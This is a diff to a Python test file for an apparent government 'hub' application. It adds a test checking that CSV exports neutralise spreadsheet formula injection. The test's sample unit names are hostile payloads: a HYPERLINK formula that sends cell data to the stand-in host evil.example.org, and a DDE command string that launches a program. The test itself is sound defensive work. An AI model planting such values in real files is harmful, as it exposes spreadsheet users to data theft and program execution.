@@ -27,7 +27,7 @@ from hub.calendar.service import load_calendar
 from hub.calendar.workdays import SHANGHAI
 from hub.db import unit_of_work
 from hub.errors import NotFound
-from hub.models import Task
+from hub.models import Task, Unit
 from hub.supervision.service import OverdueTask, UnitFigures, period, unit_figures
 
 AT = datetime(2026, 3, 24, 10, 0, tzinfo=SHANGHAI)
@@ -287,6 +287,28 @@ def test_api_csv_opens_in_excel(client, token, march, frozen_at):
     assert (
         empty.content.decode("utf-8-sig").splitlines()[1] == f"housing-fund,{NAMES['housing-fund']},0,0,0,,,0"
     )
+
+
+def test_csv_cells_never_run_as_formulas(client, token, hub):
+    """A name that a spreadsheet would take for a formula (=HYPERLINK would open a link, =cmd|... once ran
+    programs) comes out as text: with an apostrophe in front, as Excel and WPS show text."""
+    names = {
+        "housing-fund": '=HYPERLINK("http://evil.example.org/?"&A1,"详情")',
+        "vehicles": "+1+cmd|' /C calc'!A0",
+        "civil-affairs": "-2+3",
+        "real-estate": "@SUM(1,2)",
+    }
+    with unit_of_work(hub.sessions) as session:
+        for code, name in names.items():
+            session.execute(update(Unit).where(Unit.code == code).values(name=name))
+
+    shown = {}
+    for code in names:
+        response = client.get(f"/api/v1/supervision/units.csv?unit={code}", headers=token("supervisor"))
+        [_, row] = csv.reader(io.StringIO(response.content.decode("utf-8-sig")))
+        shown[row[0]] = row[1]
+
+    assert shown == {code: "'" + name for code, name in names.items()}
 
 
 def test_api_refuses_unit_staff_and_bad_parameters(client, token):
